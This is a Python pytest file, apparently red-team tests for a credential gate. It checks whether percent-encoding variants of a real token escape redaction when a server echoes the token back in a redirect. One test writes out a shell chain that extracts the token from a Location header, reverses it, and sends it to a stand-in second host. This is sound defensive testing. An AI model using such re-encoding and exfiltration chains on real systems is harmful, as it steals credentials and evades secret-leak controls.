"""Red team 13b: a real token with characters that percent-encoding changes (`/`, `+`, `=`:
base64-shaped API keys, AWS secrets, many vendors' tokens) comes back into the step in a
spelling the gate does not look for.

The gate looks for a real value plain, `quote(v, safe="")`, `quote_plus(v, safe="")` and
JSON-escaped. Ordinary encoders spell it otherwise: Python's `urllib.parse.quote(v)` keeps `/`
(its default `safe="/"`, what Werkzeug/Django-style redirects use), .NET's
HttpUtility.UrlEncode writes lowercase hex (`%2f`), a form encoder writes `+` for a space but
leaves `/` alone in paths. The credential's host here is an ordinary server that redirects a
path without its trailing slash, keeping the query, re-encoded by its framework; nothing is
sent anywhere else. The oracle is the canary (the real token starts with it) in what the step
read. Runs as root and as an unprivileged user."""

import shutil
from urllib.parse import parse_qs, quote

import pytest

from gatekit import hostport, netproject, servers
from harness import CANARY, attacker  # noqa: F401  (the fixture)

pytestmark = pytest.mark.skipif(shutil.which("socat") is None, reason="socat is not installed")

REAL = CANARY + "/Ab+Cd="             # the person's token, as a base64-shaped key is


def _lower(v: str) -> str:
    return "".join(c if c.isalnum() or c in "-_.~" else "%%%02x" % ord(c) for c in v)


ENCODERS = {"python-quote": quote, "lowercase-hex": _lower}


def _redirecting(encode):
    def app(method, path, headers, body):
        base, _, query = path.partition("?")
        token = parse_qs(query).get("access_token", [""])[0]
        if not base.endswith("/"):
            loc = f"https://{headers.get('host', '')}{base}/?access_token={encode(token)}"
            return 301, {"Location": loc, "Content-Type": "text/plain"}, b"moved\n"
        return 200, {"Content-Type": "text/plain"}, b"ok\n"
    return app


@pytest.mark.parametrize("encoder", list(ENCODERS))
def test_a_re_encoded_real_token_is_not_echoed_back_into_the_step(attacker, encoder):
    with servers(_redirecting(ENCODERS[encoder])) as (git, stub):
        attacker.env["MY_TOKEN"] = REAL
        api = hostport(stub, "api.github.com")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        r = attacker.run(f"curl -s -D - -o /dev/null \"https://{api}/repos/o/r?access_token=$MY_TOKEN\"; "
                         "echo done")
        out = r.stdout + r.stderr
        assert "done" in out, out
        got = [q for q in stub.requests if REAL in parse_qs(q["path"].partition("?")[2]).get("access_token", [])]
        assert got, f"the real token never reached the credential's host: {stub.requests}"
        assert CANARY not in out, f"the real token came back in the Location ({encoder}):\n{out}"


def test_the_re_encoded_real_token_is_carried_to_another_host(attacker):
    """The chain to a second server: the step reads the token out of the Location, and sends
    it to stub.example.test reversed (the gate looks for real values leaving only in the
    spellings it knows; the step now holds the value and may spell it any way)."""
    with servers(_redirecting(quote)) as (git, stub):
        attacker.env["MY_TOKEN"] = REAL
        api = hostport(stub, "api.github.com")
        other = hostport(stub, "stub.example.test")
        netproject(attacker, git, stub,
                   f"credentials:\n  tok:\n    from: {{ env: MY_TOKEN }}\n    hosts: [\"{api}\"]\n")
        attacker.run(
            f"t=$(curl -s -D - -o /dev/null \"https://{api}/x?access_token=$MY_TOKEN\" | "
            "grep -i '^location:' | sed 's/.*access_token=//' | tr -d '\\r' | "
            "python3 -c 'import sys, urllib.parse; print(urllib.parse.unquote(sys.stdin.read().strip())[::-1])'); "
            f"curl -s -o /dev/null -H \"X-R: $t\" https://{other}/")
        got = [q for q in stub.requests if q["headers"].get("host", "").startswith("stub.example.test")
               and REAL[::-1] in q["headers"].get("x-r", "")]
        assert not got, f"the real token reached stub.example.test: {got[0]['headers']['x-r'][::-1]}"
